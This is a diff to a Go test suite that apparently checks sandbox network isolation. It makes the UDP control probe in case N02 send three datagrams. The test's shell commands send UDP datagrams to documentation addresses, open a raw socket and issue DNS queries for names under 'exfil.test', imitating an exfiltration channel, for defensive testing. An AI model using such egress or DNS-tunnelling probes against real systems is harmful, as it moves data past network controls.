@@ -136,11 +136,16 @@ func fakeNetCases() []*Case {
 		netCase("N02", "UDP, ICMP and DNS-over-UDP egress",
 			"UDP datagrams to 203.0.113.10:9999 and :53 (a DNS query), [2001:db8:1::10]:53; raw ICMP socket",
 			"a fake-internet UDP listener receives a datagram, or a raw socket opens",
-			"the host sends a datagram with the control token that arrives",
+			"the host sends three datagrams with the control token; one arrives",
 			"N02: dust-tt/dust PR#25991, sandboxie-plus/Sandboxie#4207", 0,
 			func(ctx context.Context, e *Env) Outcome {
 				a := e.Sh(ctx, `for i in 1 2 3; do "$P" redteam probe connect udp 203.0.113.10:9999; done; "$P" redteam probe dnsq 203.0.113.10:53 "n02-$T.exfil.test"; "$P" redteam probe dnsq [2001:db8:1::10]:53 "n02b-$T.exfil.test"; "$P" redteam probe rawsock`)
-				ctl := e.ctlAt(e.netL("udp 203.0.113.10:9999"), func() Obs { return e.Host(ctx, `"$P" redteam probe connect udp 203.0.113.10:9999 "$CT"`) })
+				// UDP may drop a datagram (the first one to an address
+				// waits on neighbour discovery): the control, like the
+				// attack, sends three.
+				ctl := e.ctlAt(e.netL("udp 203.0.113.10:9999"), func() Obs {
+					return e.Host(ctx, `for i in 1 2 3; do "$P" redteam probe connect udp 203.0.113.10:9999 "$CT"; sleep 0.1; done`)
+				})
 				return verdict(oks(a, contains("socket raw")), ctl)
 			}),
 		netCase("N03", "DNS tunnelling through the session's resolver",
